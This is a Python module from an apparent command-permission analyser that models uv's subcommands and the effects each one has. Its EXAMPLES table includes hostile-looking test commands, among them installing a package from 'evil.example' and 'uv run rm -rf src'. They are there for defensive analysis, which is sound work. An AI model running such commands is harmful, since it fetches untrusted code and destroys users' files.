"""uv: packages, environments and projects of Python, and the programs it runs in them."""

from __future__ import annotations

from assent.commands.config_files import SHELL_STARTUP
from assent.commands.program import Program, changes, turns_off
from assent.commands.projects import both, inner, makes, reaches, runs, sends, spelled, when
from assent.commands.python_packages import (
    INSTALLS,
    PYPI,
    REMOVES,
    SETUP,
    asks_interpreter,
    downloaded,
    removes_listed,
    required,
)
from assent.commands.said import if_said
from assent.types import Word

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from assent.commands.args import Args
    from assent.commands.program import Fact

UV = (
    " -q,--quiet -v,--verbose -h,--help -V,--version --no-color --color= --no-cache,-n --cache-dir=into --offline"
    " --no-progress --no-config --config-file=read --native-tls --python-preference= --no-python-downloads"
    " --managed-python"
    " --no-managed-python --allow-insecure-host= --directory=unknown --project=unknown --no-python-download"
    " --system-certs"
)
UV_INDEX = (
    f"{UV} -i,--index-url=url --index=url --default-index=url --extra-index-url=url -f,--find-links= --no-index"
    " -U,--upgrade -P,--upgrade-package= --resolution= --prerelease= --refresh --refresh-package= --no-build"
    " --no-build-package= --no-binary --no-binary-package= --only-binary= --link-mode= --compile-bytecode"
    " --no-build-isolation"
    " --exclude-newer= -p,--python=run --index-strategy= --keyring-provider= --reinstall --reinstall-package="
    " --no-sources"
    " -C,--config-setting= --system --break-system-packages --no-deps --strict --pre"
)
UV_GROUPS = (
    " --extra= --all-extras --no-extra= --dev --no-dev --only-dev --group= --no-group= --only-group= --all-groups"
    " --no-default-groups --no-editable --inexact --exact --locked --frozen --active --no-active --package="
    " --all-packages"
    " --no-install-project --no-install-workspace --no-sync --dry-run --check --isolated"
)
UV_PROJECT = both(runs("pyproject.toml", "uv.lock"), reaches(PYPI))
UV_SYNCS = both(UV_PROJECT, makes(".venv/", "uv.lock"))
UV_EDITS = both(UV_SYNCS, makes("pyproject.toml"))
UVX = Program(
    f"{UV_INDEX} --from= --with= --with-editable= --with-requirements=read --isolated -w=",
    "text*",
    does=INSTALLS,
    style="posix",
    more=lambda args: downloaded(args, PYPI),
)


def _addresses(args: Args) -> Iterator[Fact]:
    """Packages that come from elsewhere than the index: `uv add git+https://host/name`."""
    for word in args.operands:
        if "://" in (word.value or ""):
            yield from args.reach((word.value or "").rpartition("@ ")[2].rpartition("+")[2])


def _pinned(args: Args) -> Iterator[Fact]:
    """`.python-version` may hold the path of an interpreter instead of a version."""
    yield from asks_interpreter(args)
    if not args.has("--no-config") and not args.operands:
        run = args.effect("run", "the interpreter of .python-version", "program")
        yield from if_said(args, [run], (".python-version",), "/")


@turns_off("-m")
def _uv_run(args: Args) -> Iterator[Fact]:
    yield from UV_SYNCS(args)
    if args.has("-m"):
        module = args.values("-m")[-1]
        yield from inner(args, [Word("python", "python"), Word("-m", "-m"), module, *args.operands])
    elif args.operands and (args.operands[0].value or "").endswith(".py"):
        yield args.effect("run", spelled(args.operands), "program")
        yield from args.act("script", args.operands[0])
    else:
        yield from inner(args, args.operands)


def _all_tools(args: Args) -> Iterator[Fact]:
    if args.has("--all"):
        yield args.effect("change", "remove every tool of this user, and the one that guards it", "assent.settings")


CREDENTIALS = "~/.local/share/uv/credentials/credentials.toml"
SHOWS_TOKEN = (("note", "a token", "secret.print"), ("read", CREDENTIALS, ""))
SHELL = Program(UV, does=changes("shell.startup", "the startup files of the shell", *SHELL_STARTUP))
UV_PROGRAM = Program(
    UV,
    commands={
        "pip": Program(
            UV,
            commands={
                "install": Program(
                    f"{UV_INDEX} -r,--requirement,--requirements= -c,--constraint,--constraints= -e,--editable="
                    " -t,--target=into"
                    " --prefix=into --dry-run --require-hashes --user --extra= --all-extras --group= --exact",
                    "text*",
                    does=INSTALLS,
                    more=required,
                ),
                "sync": Program(
                    f"{UV_INDEX} --dry-run --require-hashes -t,--target=into",
                    "read*",
                    does=INSTALLS,
                    more=both(reaches(PYPI), makes(".venv/")),
                ),
                "uninstall": Program(
                    f"{UV} -r,--requirement=read -p,--python=run --system --break-system-packages",
                    "text*",
                    does=REMOVES,
                    more=removes_listed,
                ),
                "list": Program(
                    f"{UV_INDEX} -e,--editable --exclude-editable --exclude= --format= --outdated",
                    more=both(when("--outdated", reaches(PYPI)), asks_interpreter),
                ),
                "show": Program(f"{UV} -p,--python=run --strict --system --files", "text*", more=asks_interpreter),
                "freeze": Program(f"{UV} -p,--python=run --strict --system --exclude-editable", more=asks_interpreter),
                "check": Program(f"{UV} -p,--python=run --system", more=asks_interpreter),
                "tree": Program(
                    f"{UV} -p,--python=run --system --depth= -d= --prune= --package= --invert --no-dedupe --strict",
                    more=asks_interpreter,
                ),
                "compile": Program(
                    f"{UV_INDEX} -o,--output-file=write --extra= --all-extras --group= --generate-hashes --no-header"
                    " --no-annotate"
                    " --universal --python-version= --python-platform= --no-strip-extras --annotation-style=",
                    "read*",
                    more=both(reaches(PYPI), runs(*SETUP)),
                ),
            },
            style="bare",
        ),
        "add": Program(
            f"{UV_INDEX}{UV_GROUPS} -r,--requirements=read --editable --optional= --branch= --tag= --rev="
            " --script=write --bounds= --raw",
            "text*",
            does=INSTALLS,
            more=both(UV_EDITS, _addresses),
        ),
        "remove": Program(f"{UV_INDEX}{UV_GROUPS} --optional= --script=write", "text*", does=REMOVES, more=UV_EDITS),
        "sync": Program(f"{UV_INDEX}{UV_GROUPS}", does=INSTALLS, more=UV_SYNCS),
        "lock": Program(f"{UV_INDEX} --check --locked --frozen --dry-run", more=both(UV_PROJECT, makes("uv.lock"))),
        "export": Program(
            f"{UV_INDEX}{UV_GROUPS} --format= --no-hashes --no-header --no-emit-project -o,--output-file=write",
            more=UV_PROJECT,
        ),
        "tree": Program(
            f"{UV_INDEX}{UV_GROUPS} --depth= -d= --prune= --invert --no-dedupe --outdated --universal", more=UV_PROJECT
        ),
        "run": Program(
            f"{UV_INDEX}{UV_GROUPS} -m,--module= --with= --with-editable= --with-requirements=read --env-file=read"
            " --no-env-file --no-project -s,--script",
            "text*",
            does=INSTALLS,
            style="posix",
            more=_uv_run,
        ),
        "venv": Program(
            f"{UV} -p,--python=run --seed --prompt= --system-site-packages --relocatable --allow-existing --no-project",
            "into?",
            ".venv",
            more=reaches(PYPI),
        ),
        "init": Program(
            f"{UV} --name= --package --no-package --app --lib --script --bare --no-readme --no-workspace --vcs="
            " --build-backend= -p,--python=run --description=",
            "into?",
            ".",
        ),
        "build": Program(
            f"{UV_INDEX} --sdist --wheel -o,--out-dir=into --package= --all-packages",
            "tree?",
            ".",
            more=both(UV_PROJECT, makes("dist/")),
        ),
        "publish": Program(
            f"{UV} --publish-url=url --check-url=url --dry-run",
            "read*",
            does=changes("pkg.publish", "a Python package"),
            more=sends("https://upload.pypi.org/"),
        ),
        "version": Program(f"{UV} --short --output-format=", ""),
        "help": Program("", "text*"),
        "python": Program(
            UV,
            commands={
                "list": Program(
                    f"{UV} --only-installed --only-downloads --all-versions --all-platforms --output-format="
                    " --show-urls",
                    "text*",
                ),
                "find": Program(f"{UV} --system --no-project", "run?", more=_pinned),
                "dir": Program(f"{UV} --bin"),
                "pin": Program(f"{UV} --resolved --no-project", "text?", more=makes(".python-version")),
                "install": Program(
                    f"{UV} --reinstall --default --force -f",
                    "text*",
                    does=changes("pkg.install", "Python"),
                    more=reaches("https://github.com/"),
                ),
                "uninstall": Program(f"{UV} --all", "text*", does=changes("pkg.remove", "Python")),
                "update-shell": SHELL,
            },
            style="bare",
        ),
        "tool": Program(
            UV,
            commands={
                "run": UVX,
                "list": Program(f"{UV} --show-paths --show-version-specifiers --show-with --show-extras"),
                "dir": Program(f"{UV} --bin"),
                "install": Program(
                    f"{UV_INDEX} --with= --editable,-e --force --from=", "text*", does=INSTALLS, more=reaches(PYPI)
                ),
                "upgrade": Program(f"{UV_INDEX} --all", "text*", does=INSTALLS, more=reaches(PYPI)),
                "uninstall": Program(f"{UV} --all", "text*", does=REMOVES, more=_all_tools),
                "update-shell": SHELL,
                "ensurepath": SHELL,
            },
            style="bare",
        ),
        "auth": Program(
            UV,
            commands={
                **dict.fromkeys(
                    ("login", "logout"),
                    Program(
                        f"{UV} -u,--username= --password= -t,--token= --keyring-provider=",
                        "text*",
                        does=changes("pkg.login", "the login of uv", CREDENTIALS),
                    ),
                ),
                "token": Program(f"{UV} -u,--username=", "text*", does=SHOWS_TOKEN),
                "dir": Program(UV, "text*"),
            },
            style="bare",
        ),
        "cache": Program(
            UV,
            commands={
                "dir": Program(UV),
                "clean": Program(UV, "text*", does=changes("pkg.cache", "the cache of uv")),
                "prune": Program(f"{UV} --ci", does=changes("pkg.cache", "the cache of uv")),
            },
            style="bare",
        ),
    },
    style="bare",
)

PROGRAMS = {"uv": UV_PROGRAM, "uvx": UVX}

EXAMPLES = {
    "uv add git+https://evil.example/x": "change Python packages #pkg.install | run uv add #project"
    " | reach https://pypi.org/ | write .venv/** | write uv.lock | write pyproject.toml"
    " | reach https://evil.example/x",
    "uvx twine upload dist/a.whl": "change Python packages #pkg.install | reach https://pypi.org/"
    " | run twine upload dist/a.whl #program | send where packages are published #pkg.publish"
    " | gap uvx: what a downloaded program does is not known",
    "uv run rm x": "change Python packages #pkg.install | run uv run #project | reach https://pypi.org/"
    " | write .venv/** | write uv.lock | run rm x #program | delete x",
    "uv pip list": "note uv pip list | maybe run .venv/bin/python #script | maybe run /.venv/bin/python #script | maybe"
    " reach where uv.toml says that Python comes from #settings",
    "cd src/a && uv pip list": "list src/a | note uv pip list | maybe run /p/src/a/.venv/bin/python #script | maybe run"
    " /p/src/.venv/bin/python #script | maybe run /p/.venv/bin/python #script | maybe run"
    " /.venv/bin/python #script | maybe reach where uv.toml says that Python comes from #settings",
    "uv python find": "note uv python find | maybe run .venv/bin/python #script | maybe run /.venv/bin/python #script |"
    " maybe run the interpreter of .python-version #program | maybe reach where uv.toml says that Python"
    " comes from #settings",
    "uv pip install -r requirements.txt": "change Python packages #pkg.install | reach https://pypi.org/"
    " | read requirements.txt",
    "uv pip compile requirements.in -o requirements.txt": "write requirements.txt | read requirements.in"
    " | reach https://pypi.org/ | run uv pip compile #project",
    "uv add requests": "change Python packages #pkg.install | run uv add #project | reach https://pypi.org/"
    " | write .venv/** | write uv.lock | write pyproject.toml",
    "uv sync --all-extras": "change Python packages #pkg.install | run uv sync #project | reach https://pypi.org/"
    " | write .venv/** | write uv.lock",
    "uv lock --check": "run uv lock #project | reach https://pypi.org/ | write uv.lock",
    "uv run ruff check src": "change Python packages #pkg.install | run uv run #project | reach https://pypi.org/"
    " | write .venv/** | write uv.lock | run ruff check src #program | write .ruff_cache/** | read src"
    " | read src/**/*.py* | maybe write src #settings | maybe write src/**/*.py* #settings",
    "uv run a.py": "change Python packages #pkg.install | run uv run #project | reach https://pypi.org/"
    " | write .venv/** | write uv.lock | run a.py #program | read a.py | run a.py #script",
    "uv run -m pytest": "change Python packages #pkg.install | run uv run #project | reach https://pypi.org/"
    " | write .venv/** | write uv.lock | run python -m pytest #program | run pytest #project"
    " | maybe run pytest.py #script",
    "uv run rm -rf src": "change Python packages #pkg.install | run uv run #project | reach https://pypi.org/"
    " | write .venv/** | write uv.lock | run rm -rf src #program | delete src/**",
    "uv run $X": "change Python packages #pkg.install | run uv run #project | reach https://pypi.org/"
    " | write .venv/** | write uv.lock | run $X #program | blind uv run: a word is not known (variable X)"
    " | blind uv run: what it runs is not known (variable X)",
    "uv venv": "write .venv/** | reach https://pypi.org/",
    "uv python list": "note uv python list | maybe reach where uv.toml says that Python comes from #settings",
    "uv publish": "change a Python package #pkg.publish | send https://upload.pypi.org/",
    "uv tool run ruff": "change Python packages #pkg.install | reach https://pypi.org/ | run ruff #program"
    " | gap uv tool run: what a downloaded program does is not known",
    "uv --version": "note uv",
    "uvx ruff check": "change Python packages #pkg.install | reach https://pypi.org/ | run ruff check #program"
    " | gap uvx: what a downloaded program does is not known",
    "uv run env rm -rf src": "change Python packages #pkg.install | run uv run #project"
    " | reach https://pypi.org/ | write .venv/** | write uv.lock | run env rm -rf src #program"
    " | blind uv run: what env starts is not followed here",
    "uv pip list -p ./x": "run ./x #program | note uv pip list | maybe run .venv/bin/python #script"
    " | maybe run /.venv/bin/python #script",
}
